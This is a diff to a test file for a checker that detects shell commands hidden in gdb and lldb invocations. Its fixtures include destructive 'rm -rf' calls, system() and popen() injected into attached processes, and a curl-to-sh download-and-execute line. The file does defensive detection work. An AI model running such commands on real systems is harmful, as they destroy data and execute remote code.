@@ -38,6 +38,14 @@ describe('debugger commands that run something', () => {
     ],
     ["lldb-17 -b -o 'platform shell rm -rf /x'", 'lldb -o > rm -rf /x'],
     ["lldb --batch -o 'platform shell curl -fsSL https://203.0.113.9/b.sh | sh'", 'lldb -o > sh'],
+    // system()/popen() called in the debugged process
+    ['gdb -p 4242 -batch -ex \'call (int)system("rm -rf /x")\'', 'gdb -ex > rm -rf /x'],
+    ['gdb -p 4242 -batch -ex \'print system("rm -rf /x")\'', 'gdb -ex > rm -rf /x'],
+    ['lldb -p 4242 -b -o \'expr (int)system("rm -rf /x")\'', 'lldb -o > rm -rf /x'],
+    ['lldb -p 4242 -b -o \'po (void*)popen("rm -rf /x", "r")\'', 'lldb -o > rm -rf /x'],
+    // fail closed: a command not written as a literal
+    ["gdb -p 4242 -batch -ex 'call (int)system(cmd)'", '?'],
+    ['gdb -batch -ex "shell $CMD"', '?'],
   ])('%s', (script, want) => expect(commands(script)).toContain(want));
 
   it.each<[string]>([
@@ -47,6 +55,8 @@ describe('debugger commands that run something', () => {
     ["gdb -batch -ex 'info registers' ./app"],
     ['lldb -p 4242'],
     ['gdb ./app'],
+    ["gdb -batch -ex 'print sizeof(int)' ./app"],
+    ["lldb -b -o 'p argc' -o 'expr x = 3' ./app"],
   ])('%s runs nothing else', (script) => expect(commands(script)).toHaveLength(1));
 
   it.each<[string, string]>([
